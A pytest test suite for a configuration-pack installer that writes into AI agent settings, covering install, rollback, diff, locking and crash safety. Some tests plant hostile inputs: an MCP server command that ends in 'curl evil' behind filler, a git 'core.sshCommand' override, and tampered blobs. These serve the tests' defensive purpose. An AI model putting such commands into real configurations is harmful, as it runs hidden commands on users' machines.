"""apply, and everything around it, as a user sees it: with the real command, on real files."""

from __future__ import annotations

import json
import os
import signal
import subprocess
from pathlib import Path

import pytest

from .conftest import COMMAND, Machine, PackMaker

USERS_OWN = [
    ("comments", b'{\n  // mine\n  "model": "opus", /* keep */\n  "z": [1, 2,],\n}\n'),
    ("four spaces", b'{\n    "b": 1,\n    "a": {\n        "x": true\n    }\n}\n'),
    ("crlf", b'{\r\n  "model": "opus"\r\n}\r\n'),
    ("bom", b'\xef\xbb\xbf{"model": "opus"}'),
    ("tabs, no final newline", b'{\n\t"model": "opus"\n}'),
    ("one line with empty hooks", b'{"hooks": {}, "n": 12345678901234567890, "f": 1.0, "u": "\\u00e9"}'),
    ("own hooks", b'{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "/opt/mine"}]}]}}\n'),
    ("empty", b""),
]


def claude(machine: Machine, pack: Path, more: str = "") -> None:
    machine.manifest(f'[packs.own]\npath = "{pack}"\n[targets.claude]\nscope = "global"\n{more}')


def settings(machine: Machine, data: bytes) -> Path:
    file = machine.home / ".claude/settings.json"
    file.parent.mkdir(exist_ok=True)
    file.write_bytes(data)
    return file


@pytest.mark.parametrize(("name", "data"), USERS_OWN, ids=[n for n, _ in USERS_OWN])
def test_a_users_file_comes_through_install_and_uninstall(
    machine: Machine, make_pack: PackMaker, name: str, data: bytes
) -> None:
    file = settings(machine, data)
    before = machine.tree()
    claude(machine, make_pack())
    machine.ok("resolve")
    machine.ok("apply", "--allow", "high")
    assert b"greet.sh" in file.read_bytes()
    machine.ok("uninstall", "--allow", "high")
    assert machine.tree() == before


@pytest.mark.parametrize("data", [b'{\n  "a": \n}', b'{"a": 1', b'{"a" 1}', b"[1]"])
def test_a_file_that_cannot_be_edited_is_refused_untouched(
    machine: Machine, make_pack: PackMaker, data: bytes
) -> None:
    file = settings(machine, data)
    before = machine.tree()
    claude(machine, make_pack())
    machine.ok("resolve")
    ran = machine.run("apply", "--allow", "high")
    assert ran.status == 4 and "settings.json, line " in ran.err and ", column " in ran.err
    assert file.read_bytes() == data
    assert machine.tree() == before


def test_a_second_apply_moves_nothing(machine: Machine, make_pack: PackMaker) -> None:
    settings(machine, USERS_OWN[0][1])
    claude(machine, make_pack())
    machine.ok("resolve")
    machine.ok("apply", "--allow", "high")
    stamps = machine.stamps()
    for _ in range(2):
        assert "nothing to do" in machine.ok("apply").out
        assert machine.stamps() == stamps
    assert len(machine.ok("history", "--json").data["generations"]) == 1


def test_the_quick_answer_is_given_up_when_anything_moved(machine: Machine, make_pack: PackMaker) -> None:
    claude(machine, make_pack())
    machine.ok("resolve")
    machine.ok("apply", "--allow", "high")
    assert "nothing to do" in machine.ok("apply").out
    skill = machine.home / ".claude/skills/greet/SKILL.md"
    stamp = skill.stat()
    skill.write_bytes(skill.read_bytes().replace(b"Hello", b"Hallo"))
    os.utime(skill, ns=(stamp.st_atime_ns, stamp.st_mtime_ns))  # as a careful editor would leave it
    assert machine.run("apply").status == 4
    skill.write_bytes(skill.read_bytes().replace(b"Hallo", b"Hello"))
    assert "nothing to do" in machine.ok("apply").out
    machine.variables["CLAUDE_CONFIG_DIR"] = str(machine.home / ".elsewhere")
    assert "E-ROOT-MOVED" in machine.run("apply").err


def test_without_a_terminal_a_question_is_an_error_and_nothing_is_written(starter: Machine) -> None:
    starter.ok("resolve")
    ran = starter.run("apply")
    assert ran.status == 4 and "E-ASK-UNRESOLVED" in ran.err and "--allow high" in ran.err
    assert starter.tree() == {}
    assert starter.ok("log").out == "no receipt yet\n"


def test_a_dry_run_tells_what_would_be_asked_and_writes_nothing(starter: Machine) -> None:
    starter.ok("resolve")
    ran = starter.ok("apply", "--dry-run")
    assert "register-hook" in ran.out and "would be asked" in ran.out
    assert starter.tree() == {}


def test_a_dry_run_shows_what_is_asked_about_in_the_words_of_the_question(
    machine: Machine, make_pack: PackMaker
) -> None:
    machine.manifest(
        f'[packs.own]\npath = "{make_pack()}"\n'
        '[targets.claude]\nscope = "global"\n[targets.codex]\nscope = "local"\n'
    )
    machine.ok("resolve")
    shown = [line for line in machine.ok("apply", "--dry-run").out.splitlines() if "#/" in line]
    asked = [line for line in machine.run("apply").err.splitlines() if "#/" in line]
    assert sum("greet.sh" in line for line in shown) == 2  # the commands
    assert sorted(shown) == sorted(line.strip().replace("asked by default", "asked") for line in asked)


def test_what_would_run_is_shown_to_its_end(machine: Machine, make_pack: PackMaker) -> None:
    """Nobody hides the end of a command behind much that does nothing."""
    pack = make_pack()
    said = json.loads((pack / "capability.json").read_text())
    server = {"command": "sh", "args": ["-c", f"echo {'x' * 900}; curl evil"]}
    said["mcpServers"] = {"srv": server}
    (pack / "capability.json").write_text(json.dumps(said))
    machine.manifest(f'[packs.own]\npath = "{pack}"\n[targets.gemini]\nscope = "global"\n')
    machine.ok("resolve")
    for words in (["diff"], ["apply", "--dry-run"], ["apply"]):
        ran = machine.run(*words)
        assert "curl evil" in ran.out + ran.err and '"command": "sh"' in ran.out + ran.err, words


def test_locked_refuses_to_change_the_lock(machine: Machine, make_pack: PackMaker) -> None:
    claude(machine, make_pack())
    assert machine.run("apply", "--locked", "--allow", "high").status == 3
    assert not (machine.project / "gsdlock.lock").exists()
    machine.ok("apply", "--allow", "high")
    assert (machine.project / "gsdlock.lock").exists()
    claude(machine, make_pack(), 'profile = "core"\n')
    ran = machine.run("apply", "--locked", "--allow", "high")
    assert "E-LOCK-STALE" in ran.err and "claude" in ran.err


def test_an_edited_file_is_refused_with_a_diff_and_each_answer_works(
    machine: Machine, make_pack: PackMaker
) -> None:
    claude(machine, make_pack())
    machine.ok("apply", "--allow", "high")
    skill = machine.home / ".claude/skills/greet/SKILL.md"
    mine = skill.read_bytes() + b"my own line\n"
    skill.write_bytes(mine)
    assert "edited" in machine.ok("status").out
    assert machine.run("status", "--exit-code").status == 1
    make_pack("2.0.0")
    machine.ok("resolve")
    ran = machine.run("apply", "--allow", "high")
    assert ran.status == 4 and "SKILL.md" in ran.err and "my own line" in ran.err
    assert skill.read_bytes() == mine
    machine.ok("apply", "--allow", "high", "--theirs", str(skill))
    assert skill.read_bytes() == mine
    assert "held back" in machine.ok("status").out
    machine.ok("repair", "--allow", "high")
    assert skill.read_bytes() == mine
    machine.ok("apply", "--allow", "high", "--ours", "config:skills/greet/SKILL.md")
    assert b"Hello from 2.0.0" in skill.read_bytes()
    machine.ok("restore", str(skill), "--allow", "high")
    assert skill.read_bytes() == mine


def test_a_deleted_file_is_told_and_put_back_when_asked(machine: Machine, make_pack: PackMaker) -> None:
    claude(machine, make_pack())
    machine.ok("apply", "--allow", "high")
    skill = machine.home / ".claude/skills/greet/SKILL.md"
    whole = skill.read_bytes()
    skill.unlink()
    assert "deleted" in machine.ok("status").out
    assert machine.run("apply", "--allow", "high").status == 4
    machine.ok("repair", "--allow", "high")
    assert skill.read_bytes() == whole
    assert "in order" in machine.ok("status").out


def test_a_file_of_the_users_in_the_way_is_refused_and_can_be_adopted(
    machine: Machine, make_pack: PackMaker
) -> None:
    skill = machine.home / ".claude/skills/greet/SKILL.md"
    skill.parent.mkdir(parents=True)
    skill.write_bytes(b"mine\n")
    before = machine.tree()
    claude(machine, make_pack())
    machine.ok("resolve")
    ran = machine.run("apply", "--allow", "high")
    assert ran.status == 4 and "E-COLLISION" in ran.err
    assert machine.tree() == before
    machine.ok("apply", "--allow", "high", "--adopt", str(skill))
    assert b"Hello" in skill.read_bytes()
    machine.ok("uninstall", "--allow", "high")
    assert machine.tree() == before


def test_upgrade_rollback_and_further_back(machine: Machine, make_pack: PackMaker) -> None:
    settings(machine, USERS_OWN[0][1])
    empty = machine.tree()
    trees = [empty]
    for version in ("1.0.0", "2.0.0", "3.0.0"):
        claude(machine, make_pack(version, extra=f"more {version}\n"))
        machine.ok("apply", "--allow", "high")
        machine.ok("resolve")
        machine.ok("apply", "--allow", "high")
        trees.append(machine.tree())
    machine.ok("rollback", "--allow", "high")
    assert machine.tree() == trees[2]
    machine.ok("rollback", "--allow", "high")
    assert machine.tree() == trees[1]
    machine.ok("rollback", "3", "--allow", "high")
    assert machine.tree() == trees[3]
    machine.ok("rollback", "0", "--allow", "high")
    assert machine.tree() == empty
    assert "E-ROLLBACK-NOTHING" in machine.run("rollback", "--allow", "high").err


def test_a_target_that_leaves_the_manifest_leaves_the_host(machine: Machine, make_pack: PackMaker) -> None:
    pack = make_pack()
    claude(machine, pack)
    machine.ok("apply", "--allow", "high")
    only_claude = machine.tree()
    claude(machine, pack, '[targets.codex]\nscope = "global"\n')
    machine.ok("apply", "--allow", "high")
    assert machine.tree() != only_claude
    claude(machine, pack)
    machine.ok("apply", "--allow", "high")
    assert machine.tree() == only_claude


def test_all_targets_share_one_outcome(machine: Machine, make_pack: PackMaker) -> None:
    claude(machine, make_pack(), '[targets.codex]\nscope = "global"\n')
    (machine.home / ".codex").mkdir()
    (machine.home / ".codex/hooks.json").write_text("{ not json")
    before = machine.tree()
    ran = machine.run("apply", "--allow", "high")
    assert ran.status == 4 and "hooks.json" in ran.err
    assert machine.tree() == before


def test_lost_content_is_fetched_again_and_must_be_the_same(machine: Machine, make_pack: PackMaker) -> None:
    pack = make_pack()
    claude(machine, pack)
    machine.ok("resolve")
    machine.ok("apply", "--allow", "high")
    whole = machine.tree()
    machine.ok("uninstall", "--allow", "high")
    store = machine.home / ".local/share/gsdlock"
    subprocess.run(["rm", "-rf", str(store)], check=True)
    machine.ok("apply", "--locked", "--allow", "high")
    assert machine.tree() == whole
    machine.ok("uninstall", "--allow", "high")
    subprocess.run(["rm", "-rf", str(store)], check=True)
    before = machine.tree()
    script = pack / "hooks/greet.sh"
    script.write_bytes(script.read_bytes() + b"#")
    ran = machine.run("apply", "--locked", "--allow", "high")
    assert ran.status == 5 and "greet.sh" in ran.err
    assert machine.tree() == before


def test_a_damaged_blob_never_reaches_a_host(machine: Machine, make_pack: PackMaker) -> None:
    claude(machine, make_pack())
    machine.ok("resolve")
    blobs = [p for p in (machine.home / ".local/share/gsdlock/blobs").rglob("*") if p.is_file()]
    for blob in blobs:
        if b"echo greet" in blob.read_bytes():
            blob.chmod(0o644)
            blob.write_bytes(b"evil")
    machine.ok("apply", "--locked", "--allow", "high")
    assert (machine.home / ".claude/hooks/demo-greet/greet.sh").is_file(), "fetched again"
    assert all(b"evil" not in data for _, data in machine.tree().values() if isinstance(data, bytes))


def test_why_names_pack_feature_and_axis(machine: Machine, make_pack: PackMaker) -> None:
    claude(machine, make_pack())
    machine.ok("apply", "--allow", "high")
    out = machine.ok("why", str(machine.home / ".claude/skills/greet/SKILL.md")).out
    assert "pack: own" in out and "feature: demo-greet" in out and "artifact: skill/greet" in out
    out = machine.ok("why", str(machine.home / ".claude/settings.json") + "#/hooks/Stop").out
    assert "feature: demo-greet" in out and "op: append-unique" in out
    ran = machine.run("why", str(machine.home / ".claude/other"))
    assert ran.status == 3 and "E-WHY-UNKNOWN" in ran.err


def test_diff_between_locks_generations_and_git(machine: Machine, make_pack: PackMaker) -> None:
    claude(machine, make_pack())
    machine.ok("resolve")
    git = ["git", "-C", str(machine.project), "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "x"], check=True)
    assert machine.run("diff", "--exit-code").status == 1
    machine.ok("apply", "--allow", "high")
    assert machine.run("diff", "--exit-code").status == 0
    make_pack("2.0.0")
    machine.ok("resolve")
    for sides in ([], ["@1"], ["git:HEAD:gsdlock.lock"], ["git:HEAD:gsdlock.lock", "gsdlock.lock"]):
        ran = machine.run("diff", *sides, "--exit-code")
        assert ran.status == 1 and "config:skills/greet/SKILL.md" in ran.out, sides
    assert "+Hello from 2.0.0." in machine.ok("diff", "--patch").out
    assert "config:skills/" in machine.ok("diff", "--stat").out
    rows = machine.ok("diff", "--json").data["targets"]
    assert {f["change"] for f in rows[0]["files"]} == {"changed"}
    assert "E-GIT-SHOW" in machine.run("diff", "git:nope:gsdlock.lock").err
    assert "E-SIDE-UNKNOWN" in machine.run("diff", "@x").err


def test_diff_of_a_revision_fetches_nothing_whatever_the_repository_says(
    machine: Machine, make_pack: PackMaker
) -> None:
    """A partial clone would ask its remote for what it lacks, by a command of its own configuration."""
    claude(machine, make_pack())
    machine.ok("resolve")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    up, clone = machine.root / "up", machine.root / "clone"
    machine.project.rename(up)
    for words in (
        ["init", "-q"],
        ["add", "-A"],
        ["commit", "-qm", "one"],
        ["config", "uploadpack.allowFilter", "true"],
    ):
        subprocess.run([*git, *words], cwd=up, check=True)
    (up / "gsdlock.lock").write_text("")
    subprocess.run([*git, "commit", "-qam", "two"], cwd=up, check=True)
    subprocess.run([*git, "clone", "-q", "--filter=blob:none", f"file://{up}", str(clone)], check=True)
    for key, value in {
        "remote.origin.url": "ssh://h/up",
        "core.sshCommand": f"touch {machine.root}/sprung; false",
    }.items():
        subprocess.run([*git, "config", key, value], cwd=clone, check=True)
    ran = machine.run("diff", "git:HEAD~1:gsdlock.lock", "@lock", cwd=clone)
    assert "E-GIT-SHOW" in ran.err
    assert not (machine.root / "sprung").exists()


def test_another_manifest_of_the_same_name_is_refused(machine: Machine, make_pack: PackMaker) -> None:
    claude(machine, make_pack())
    machine.ok("apply", "--allow", "high")
    second = Machine(machine.root)
    other = machine.root / "other"
    other.mkdir()
    text = (machine.project / "gsdlock.toml").read_text()
    (other / "gsdlock.toml").write_text(text)
    ran = second.run("apply", "--allow", "high", cwd=other)
    assert ran.status == 4 and "E-INSTALLATION-BOUND" in ran.err
    second.ok("apply", "--allow", "high", "--take-over", cwd=other)
    (other / "gsdlock.toml").write_text('name = "team"\n' + text)
    ran = second.run("apply", "--allow", "high", cwd=other)
    assert ran.status == 4 and "claude" in ran.err, "a path that another installation owns is a collision"


def test_gc_keeps_what_generations_and_locks_name(machine: Machine, make_pack: PackMaker) -> None:
    claude(machine, make_pack())
    machine.ok("apply", "--allow", "high")
    make_pack("2.0.0")
    machine.ok("resolve")
    machine.ok("apply", "--allow", "high")
    machine.ok("gc")
    machine.ok("verify")
    machine.ok("rollback", "--allow", "high")
    assert b"1.0.0" in (machine.home / ".claude/skills/greet/SKILL.md").read_bytes()


def test_no_edits_leaves_the_settings_to_the_user(machine: Machine, make_pack: PackMaker) -> None:
    file = settings(machine, b'{"model": "opus"}\n')
    claude(machine, make_pack())
    ran = machine.ok("apply", "--no-edits", "--allow", "high")
    assert file.read_bytes() == b'{"model": "opus"}\n'
    assert (machine.home / ".claude/skills/greet/SKILL.md").exists()
    assert "greet.sh" in ran.out and "/hooks/Stop" in ran.out
    assert "to be put in by hand" in machine.ok("status").out


def test_the_ledger_says_who_decided(starter: Machine) -> None:
    starter.ok("apply", "--allow", "high")
    events = starter.ok("log", "--json").data["events"]
    assert [e["kind"] for e in events] == ["plan", "outcomes"]
    assert {i["decided_by"] for i in events[0]["payload"]["items"]} == {"flag:--allow high"}


def test_what_we_make_is_for_us_alone(starter: Machine) -> None:
    starter.ok("apply", "--allow", "high")
    for path in [starter.state, *starter.state.rglob("*")]:
        mode = path.lstat().st_mode & 0o777
        assert mode & 0o077 == 0, (path, oct(mode))


def test_a_kill_at_any_moment_leaves_the_old_or_the_new(machine: Machine, make_pack: PackMaker) -> None:
    """Real SIGKILLs at moments spread over a real apply; the next command finds one of the two trees."""
    settings(machine, USERS_OWN[0][1])
    claude(machine, make_pack("1.0.0"), '[targets.codex]\nscope = "global"\n')
    machine.ok("apply", "--allow", "high")
    old = machine.tree()
    make_pack("2.0.0")
    machine.ok("resolve")
    machine.ok("apply", "--allow", "high")
    new = machine.tree()
    machine.ok("rollback", "--allow", "high")
    assert machine.tree() == old
    seen = set()
    for number in range(12):
        process = subprocess.Popen(
            [COMMAND, "apply", "--allow", "high", "-q"], cwd=machine.project, env=machine.env()
        )
        try:
            process.wait(timeout=0.05 + 0.05 * number)
        except subprocess.TimeoutExpired:
            process.send_signal(signal.SIGKILL)
            process.wait()
        machine.ok("status")
        tree = machine.tree()
        assert tree in (old, new)
        seen.add(tree == new)
        if tree == new:
            machine.ok("rollback", "--allow", "high")
    machine.ok("apply", "--allow", "high")
    assert machine.tree() == new
    assert json.loads((machine.state / "lock.holder").read_text())["pid"]


@pytest.mark.parametrize("text", ["", "# all gone\n", '[packs.starter]\nbuiltin = "starter"\n'])
def test_a_manifest_that_lost_its_targets_takes_nothing_out(starter: Machine, text: str) -> None:
    starter.ok("apply", "--allow", "high")
    starter.manifest(text)
    before = starter.tree(starter.home), starter.tree(starter.project)
    for words in (["apply", "--allow", "high"], ["apply", "--dry-run"]):
        ran = starter.run(*words)
        assert ran.status == 3 and "E-MANIFEST-INVALID" in ran.err and "gsdlock uninstall" in ran.err
    assert (starter.tree(starter.home), starter.tree(starter.project)) == before
    starter.ok("uninstall", "--allow", "high")
    starter.ok("apply")
